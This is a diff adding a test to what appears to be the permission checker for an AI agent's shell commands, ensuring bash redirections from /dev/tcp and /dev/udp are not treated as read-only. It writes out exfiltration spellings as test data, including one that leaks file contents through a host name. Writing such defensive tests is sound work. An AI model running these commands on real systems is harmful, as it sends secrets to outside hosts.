@@ -387,3 +387,31 @@ def test_a_read_only_wrapper_with_an_option_that_writes_is_not_read_only(tmp_pat
         assert behavior(context(tmp_path, "default"), command, tmp_path) != "allow", command
     for command in ("time ls", "/usr/bin/time -f %e ls -o", "ionice -c3 ls", "chrt -b 0 ls"):
         assert BASH.is_read_only(BashInput(command=command)), command
+
+
+def test_a_redirection_from_bash_s_network_paths_is_not_read_only(tmp_path: Path) -> None:
+    """``cat < /dev/tcp/HOST/PORT``: bash opens a connection, so data leaves (its host name
+    alone can carry a secret read by a read-only command substitution); ``< $F`` may be such a
+    path. A plain file or here-document read stays read-only."""
+    import socket
+
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.settimeout(10)
+    port = listener.getsockname()[1]
+    try:
+        command = f"cat < /dev/tcp/127.0.0.1/{port}"
+        run_bash(f"timeout 5 {command}", tmp_path)
+        connection, _ = listener.accept()  # the oracle: bash did connect
+        connection.close()
+    finally:
+        listener.close()
+    for spelling in (
+        command,
+        "cat 0</dev/udp/127.0.0.1/9",
+        "head < /dev/tcp/$(head -c 9 tgt).example/80",
+        'cat < "$F"',
+    ):
+        assert not BASH.is_read_only(BashInput(command=spelling)), spelling
+        assert behavior(context(tmp_path, "default"), spelling, tmp_path) != "allow", spelling
+    for spelling in ("cat < tgt", "wc -l < tgt", "cat <<< x", "cat <&3"):
+        assert BASH.is_read_only(BashInput(command=spelling)), spelling
